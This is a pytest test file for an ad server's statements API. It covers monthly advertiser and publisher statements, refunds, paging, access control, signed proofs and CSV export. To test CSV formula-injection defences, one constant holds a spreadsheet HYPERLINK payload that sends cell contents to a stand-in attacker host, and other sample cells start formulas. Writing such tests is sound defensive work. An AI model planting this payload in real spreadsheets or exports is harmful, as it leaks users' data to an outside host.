"""Statements over HTTP: whose they are, which month, as JSON and as CSV that no spreadsheet runs."""

import csv
import io
from base64 import urlsafe_b64encode
from typing import Any

import msgspec
import pytest

from adserver.domain.budget import local_day
from adserver.domain.identity import write_id
from adserver.domain.money import Micros
from adserver.domain.pricing import AdEvent
from adserver.flows.seal import Seal
from adserver.outside.signer import HeadSigner
from adserver.web import sheet
from adserver.writes import RecordAd, RefundCharge, Result
from tests.web.api import NETWORK_ZONE, NOW_MS, Api, World, key_behind, make_record, sell

CENT = 10_000
DAY_MS = 86_400_000
MONTH_MS = 30 * DAY_MS
FORMULA = '=HYPERLINK("https://evil.test/?"&A1;"Refund")'


def click(api: Api, world: World, impression_id: int, at_ms: int = NOW_MS, share: int = 17) -> int:
    """An ad seen and clicked a minute later, for 25 cents; the charge's id."""
    seen = make_record(world, AdEvent.IMPRESSION, impression_id, 0)
    clicked = make_record(world, AdEvent.CLICK, impression_id, 25 * CENT)
    records = (
        msgspec.structs.replace(seen, at_ms=at_ms - 60_000),
        msgspec.structs.replace(
            clicked, at_ms=at_ms, day=local_day(at_ms, "Europe/Paris"), publisher_micros=Micros(share * CENT)
        ),
    )
    assert api.storage.writer.commit(RecordAd(records)).result is Result.TAKEN
    return impression_id << 2 | AdEvent.CLICK


def give_back(api: Api, charge: int, cents: int, at_ms: int, reason: str = "returned") -> None:
    write = RefundCharge(charge, "r-1", Micros(cents * CENT), reason, at_ms)
    assert api.storage.writer.commit(write).result is Result.REFUNDED


def get(api: Api, path: str, key: str | None = None, **asked: object) -> Any:
    answer = api.call("GET", path, key=key, params=asked)
    assert answer.status_code == 200, answer.text
    return answer.json()


def rows(api: Api, path: str, key: str | None = None) -> list[dict[str, str]]:
    answer = api.call("GET", path, key=key, params={"format": "csv"})
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv; charset=utf-8")
    assert answer.content.count(b"\r\n") == answer.content.count(b"\n")
    return list(csv.DictReader(io.StringIO(answer.content.decode(), newline="")))


def advertisers(world: World, month: str) -> str:
    return f"/advertisers/{world.advertiser}/statements/{month}"


def publishers(world: World, month: str) -> str:
    return f"/publishers/{world.publisher}/statements/{month}"


@pytest.fixture
def booked(api: Api, world: World) -> World:
    """Two clicks in November, of which one is given back in part at once and one in December."""
    first, second = click(api, world, 1), click(api, world, 2)
    give_back(api, first, 5, NOW_MS + 1)
    give_back(api, second, 10, NOW_MS + MONTH_MS, FORMULA)
    api.now_ms = NOW_MS + MONTH_MS
    return world


def test_an_advertisers_month_says_what_was_charged_and_given_back(api: Api, booked: World) -> None:
    told = get(api, advertisers(booked, "2026-11"), booked.advertiser_key)
    (part,) = told["campaigns"]
    assert (part["campaign_id"], part["campaign"]) == (booked.campaign, "Autumn")
    assert (part["pricing_model"], part["event"], part["currency"]) == ("cpc", "click", "EUR")
    assert (part["charges"], part["charged_micros"]) == (2, 50 * CENT)
    assert (part["refunds"], part["refunded_micros"], part["credit_notes"]) == (1, 5 * CENT, 0)
    assert told["total"]["net_micros"] == part["net_micros"] == 45 * CENT
    assert (told["status"], told["month"], told["timezone"]) == ("closed", "2026-11", "Europe/Paris")
    assert (told["begins_at"], told["ends_at"]) == ("2026-10-31T23:00:00.000Z", "2026-11-30T23:00:00.000Z")
    assert (told["deposits"], told["balance_micros"], told["unbilled_at_cap"]) == ([], None, 0)


def test_what_is_given_back_later_is_a_credit_note_of_its_own_month(api: Api, booked: World) -> None:
    told = get(api, advertisers(booked, "2026-12"), booked.advertiser_key)
    assert told["status"] == "open"
    total = told["total"]
    assert (total["charges"], total["credit_notes"], total["credited_micros"]) == (0, 1, 10 * CENT)
    assert total["net_micros"] == -10 * CENT


def test_the_advertisers_lines_lead_from_the_impression_to_the_refund(api: Api, booked: World) -> None:
    told = get(api, f"{advertisers(booked, '2026-11')}/events", booked.advertiser_key)
    assert [(line["kind"], line["entry"], line["amount_micros"]) for line in told["items"]] == [
        ("charge", 2, 25 * CENT), ("charge", 3, 25 * CENT), ("refund", 4, 5 * CENT),
    ]  # fmt: skip
    assert told["next_cursor"] is None
    line = told["items"][0]
    assert (line["impression_at"], line["click_at"]) == (
        "2026-11-18T11:05:40.000Z",
        "2026-11-18T11:06:40.000Z",
    )
    assert (line["hour"], line["day"]) == ("2026-11-18T12:00+01:00", "2026-11-18")
    assert (line["domain"], line["slot"], line["slot_id"]) == ("news.example", "Side", booked.slot)
    assert (line["creative_id"], line["campaign_id"]) == (booked.creative, booked.campaign)
    assert line["checks"] == ["token ok", "not suspect"]
    refunded = told["items"][2]
    assert (refunded["charge_id"], refunded["refund_id"]) == (write_id("chg", 1 << 2 | 2), "r-1")
    assert (refunded["reason"], refunded["click_at"]) == ("returned", line["click_at"])


def test_an_orders_line_names_its_conversion_and_how_it_was_told(api: Api, world: World) -> None:
    charge_id = sell(api, world)
    (line,) = get(api, f"{advertisers(world, '2026-11')}/events")["items"]
    assert (line["charge_id"], line["pricing_model"], line["event"]) == (charge_id, "cpa", "conversion")
    assert key_behind(line["conversion_id"]) == key_behind(charge_id) >> 2
    assert (line["conversion_event"], line["occurred_at"]) == ("purchase", "2026-11-18T11:06:40.000Z")
    assert line["checks"][-1] == "told by server"


def test_lines_come_in_pages_without_gaps_for_both_sides(api: Api, booked: World) -> None:
    sides = (
        (f"{advertisers(booked, '2026-11')}/events", booked.advertiser_key),
        (f"{publishers(booked, '2026-11')}/events", booked.publisher_key),
    )
    for path, key in sides:
        whole = get(api, path, key)["items"]
        paged, cursor = [], ""
        while cursor is not None:
            page = get(api, path, key, limit=1, **({"cursor": cursor} if cursor else {}))
            paged += page["items"]
            cursor = page["next_cursor"]
        assert paged == whole
        assert len(whole) == 3


def test_no_advertiser_hears_of_a_publishers_share_and_no_publisher_of_a_price(
    api: Api, booked: World
) -> None:
    for path in (advertisers(booked, "2026-11"), f"{advertisers(booked, '2026-11')}/events"):
        for asked in ({}, {"format": "csv"}):
            text = api.call("GET", path, key=booked.advertiser_key, params=asked).text
            assert "share" not in text and "earned" not in text and str(17 * CENT) not in text
    for path in (publishers(booked, "2026-11"), f"{publishers(booked, '2026-11')}/events"):
        for asked in ({}, {"format": "csv"}):
            text = api.call("GET", path, key=booked.publisher_key, params=asked).text
            assert str(25 * CENT) not in text and str(50 * CENT) not in text


def test_a_publishers_month_says_what_is_earned_and_what_is_payable(api: Api, booked: World) -> None:
    told = get(api, publishers(booked, "2026-11"), booked.publisher_key)
    (slot,) = told["slots"]
    assert (slot["domain"], slot["slot_id"], slot["currency"]) == ("news.example", booked.slot, "EUR")
    assert (slot["charges"], slot["charged_micros"], slot["refunded_micros"]) == (2, 34 * CENT, 34_000)
    (total,) = told["totals"]
    assert total["net_micros"] == total["payable_micros"] == 34 * CENT - 34_000
    assert (total["carried_micros"], total["network_fee_micros"]) == (0, None)
    assert (told["timezone"], told["status"]) == (NETWORK_ZONE, "closed")
    december = get(api, publishers(booked, "2026-12"), booked.publisher_key)["totals"][0]
    assert (december["net_micros"], december["payable_micros"]) == (-68_000, 0)
    january = get(api, publishers(booked, "2027-01"), booked.publisher_key)["totals"][0]
    assert (january["net_micros"], january["carried_micros"], january["payable_micros"]) == (0, -68_000, 0)


def test_the_operator_sees_both_sides_and_the_fee_between_them(api: Api, booked: World) -> None:
    total = get(api, publishers(booked, "2026-11"))["totals"][0]
    paid = get(api, advertisers(booked, "2026-11"))["total"]["net_micros"]
    assert total["paid_by_advertisers_micros"] == paid
    assert total["net_micros"] + total["network_fee_micros"] == paid
    line = get(api, f"{publishers(booked, '2026-11')}/events")["items"][0]
    assert (line["earned_micros"], line["paid_by_advertiser_micros"]) == (17 * CENT, 25 * CENT)
    assert line["advertiser"] == "A"


def test_what_a_cap_left_unbilled_is_told_to_both(api: Api, world: World) -> None:
    api.call("PATCH", f"/campaigns/{world.campaign}", {"total_budget_micros": 30 * CENT})
    for impression_id in (1, 2, 3):
        record = make_record(world, AdEvent.CLICK, impression_id, 25 * CENT)
        api.storage.writer.commit(RecordAd((record,)))
    told = get(api, advertisers(world, "2026-11"), world.advertiser_key)
    assert (told["unbilled_at_cap"], told["unbilled_at_cap_micros"]) == (2, 50 * CENT)
    (slot,) = get(api, publishers(world, "2026-11"), world.publisher_key)["slots"]
    assert (slot["unbilled_at_cap"], slot["unbilled_at_cap_micros"]) == (2, 35 * CENT)


def test_the_sheets_hold_the_same_as_the_answers(api: Api, booked: World) -> None:
    for path in (f"{advertisers(booked, '2026-11')}/events", f"{publishers(booked, '2026-11')}/events"):
        told = get(api, path)["items"]
        listed = rows(api, path)
        assert [list(row) for row in listed] == [list(line) for line in told]
        assert [row["charge_id"] for row in listed] == [line["charge_id"] for line in told]
    (row,) = rows(api, advertisers(booked, "2026-11"))
    assert (row["campaign_id"], row["net_micros"]) == (booked.campaign, str(45 * CENT))
    (row,) = rows(api, publishers(booked, "2026-11"), booked.publisher_key)
    assert (row["slot_id"], row["paid_by_advertisers_micros"]) == (booked.slot, "")


def test_no_cell_of_a_sheet_begins_a_formula(api: Api, booked: World) -> None:
    api.call("PATCH", f"/campaigns/{booked.campaign}", {"name": "@SUM(1+1)"})
    api.call("PATCH", f"/slots/{booked.slot}", {"name": "-2+3"})
    (row,) = rows(api, f"{advertisers(booked, '2026-12')}/events", booked.advertiser_key)
    assert (row["reason"], row["campaign"], row["slot"]) == (f"'{FORMULA}", "'@SUM(1+1)", "'-2+3")
    for month in ("2026-11", "2026-12"):
        for row in rows(api, f"{advertisers(booked, month)}/events"):
            assert not [cell for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize("begin", "= + - @ \t \r \n ＝ ＋ － ＠".split(" "))
def test_a_text_that_could_be_a_formula_stands_behind_a_quote(begin: str) -> None:
    assert sheet.cell(f"{begin}1") == f"'{begin}1"
    assert sheet.lines([[f"{begin}1"]]).lstrip(b'"').startswith(b"'")


def test_a_sheet_keeps_commas_quotes_and_lines_of_a_cell_in_their_cell() -> None:
    cells = ['say "hi", twice', "two\nlines", "", -5, ["a", "b"]]
    (read,) = csv.reader(io.StringIO(sheet.lines([cells]).decode(), newline=""))
    assert read == ['say "hi", twice', "two\nlines", "", "-5", "a; b"]


MONTHS = [
    "2026-13",
    "2026-00",
    "1999-12",
    "2100-01",
    "26-11",
    "now",
    "2026-11-01",
    "2026%2D1x",
    "2026%E2%80%9111",
]


@pytest.mark.parametrize("month", MONTHS)
@pytest.mark.parametrize("more", ["", "/events"])
def test_what_is_no_month_is_refused_by_name(api: Api, world: World, month: str, more: str) -> None:
    for path in (advertisers(world, month), publishers(world, month)):
        for asked in ({}, {"format": "csv"}):
            answer = api.call("GET", f"{path}{more}", params=asked)
            assert (answer.status_code, answer.json()["code"]) == (422, "bad_month")


@pytest.mark.parametrize(
    "asked",
    [
        {"format": "xlsx"},
        {"limit": 501},
        {"cursor": "?"},
        {"cursor": "WzFd"},
        {"cursor": "bm8="},
        {"by": "day"},
    ],
    ids=str,
)
def test_a_question_that_is_not_understood_names_its_field(
    api: Api, world: World, asked: dict[str, object]
) -> None:
    for path in (advertisers(world, "2026-11"), publishers(world, "2026-11")):
        answer = api.call("GET", f"{path}/events", params=asked)
        assert (answer.status_code, answer.json()["code"]) == (422, "invalid_request")
        assert answer.json()["errors"][0]["field"].startswith("query.")


@pytest.mark.parametrize(
    "place",
    ["[9223372036854775808,0]", "[0,-2]", "[1e30,0]", "[-99999999999999999999,0]", '["1",0]', "[0,false,0,7]",
     '[9223372036854775808,false,0,""]', '[0,false,0,"\\ud800"]', "[0,0,0,0,0]", "{}", "null"],
)  # fmt: skip
def test_a_cursor_that_was_made_up_is_refused(api: Api, world: World, place: str) -> None:
    cursor = urlsafe_b64encode(place.encode()).decode()
    for path in (advertisers(world, "2026-11"), publishers(world, "2026-11")):
        answer = api.call("GET", f"{path}/events", params={"cursor": cursor})
        assert (answer.status_code, answer.json()["errors"][0]["field"]) == (422, "query.cursor")


@pytest.mark.parametrize("month", ["2000-01", "2026-10", "2099-12"])
def test_a_month_before_the_account_or_to_come_is_empty(api: Api, world: World, month: str) -> None:
    told = get(api, advertisers(world, month), world.advertiser_key)
    assert (told["campaigns"], told["total"]["net_micros"]) == ([], 0)
    assert told["status"] == ("open" if month == "2099-12" else "closed")
    assert get(api, publishers(world, month), world.publisher_key)["totals"] == []
    for path, key in ((advertisers, world.advertiser_key), (publishers, world.publisher_key)):
        events = f"{path(world, month)}/events"
        assert get(api, events, key) == {"items": [], "next_cursor": None}
        assert rows(api, events, key) == []


def test_each_side_sees_its_own_statements_only(api: Api, world: World) -> None:
    other = World(api, "B")
    for more in ("", "/events"):
        for path, right, wrong in (
            (advertisers(world, "2026-11"), other.advertiser_key, other.publisher_key),
            (publishers(world, "2026-11"), other.publisher_key, other.advertiser_key),
        ):
            assert api.call("GET", f"{path}{more}", key=right).status_code == 404
            assert api.call("GET", f"{path}{more}", key=wrong).status_code == 403


@pytest.mark.parametrize(
    ("zone", "begins", "ends"),
    [
        ("Asia/Kolkata", "2026-10-31T18:30:00.000Z", "2026-11-30T18:30:00.000Z"),
        ("America/New_York", "2026-11-01T04:00:00.000Z", "2026-12-01T05:00:00.000Z"),
    ],
)
def test_a_month_is_that_of_the_advertisers_clocks(api: Api, zone: str, begins: str, ends: str) -> None:
    world = World(api)
    assert api.call("PATCH", f"/advertisers/{world.advertiser}", {"timezone": zone}).status_code == 200
    told = get(api, advertisers(world, "2026-11"), world.advertiser_key)
    assert (told["begins_at"], told["ends_at"], told["timezone"]) == (begins, ends, zone)


def test_a_statement_carries_the_signed_days_of_its_month(api: Api, booked: World) -> None:
    Seal(api.storage.writer, api.storage.seals, HeadSigner(b"s" * 32), api.clock).run()
    told = get(api, advertisers(booked, "2026-12"), booked.advertiser_key)
    (head,) = told["heads"]
    (proven,) = get(api, f"/advertisers/{booked.advertiser}/proof")["heads"]
    assert (head, told["public_key"]) == (proven, get(api, "/proof-key")["public_key"])
    assert told["campaigns"][0]["head"]["day"] == head["day"] == 20261217
    assert get(api, advertisers(booked, "2026-11"))["heads"] == []


def test_one_charge_is_told_with_its_refund_its_entries_and_the_head_that_holds_them(
    api: Api, booked: World
) -> None:
    charge_id = write_id("chg", 1 << 2 | 2)
    path = f"/advertisers/{booked.advertiser}/charges/{charge_id}"
    told = get(api, path, booked.advertiser_key)
    assert [(line["kind"], line["amount_micros"]) for line in told["lines"]] == [
        ("charge", 25 * CENT),
        ("refund", 5 * CENT),
    ]
    assert told["head"] is None
    Seal(api.storage.writer, api.storage.seals, HeadSigner(b"s" * 32), api.clock).run()
    told = get(api, path, booked.advertiser_key)
    export = api.call("GET", f"/campaigns/{booked.campaign}/entries", params={"format": "ndjson"})
    chain = export.text.splitlines()
    assert told["entries"] == [chain[line["entry"] - 1] for line in told["lines"]]
    proof = get(api, f"/campaigns/{booked.campaign}/proof")
    assert told["head"] == proof["heads"][0]


def test_anothers_charge_does_not_exist(api: Api, booked: World) -> None:
    other = World(api, "B")
    charge_id = write_id("chg", 1 << 2 | 2)
    for owner, key in ((other.advertiser, other.advertiser_key), (other.advertiser, None)):
        answer = api.call("GET", f"/advertisers/{owner}/charges/{charge_id}", key=key)
        assert answer.status_code == 404
    for odd in ("chg_0000000000000", "nonsense"):
        assert api.call("GET", f"/advertisers/{booked.advertiser}/charges/{odd}").status_code == 404
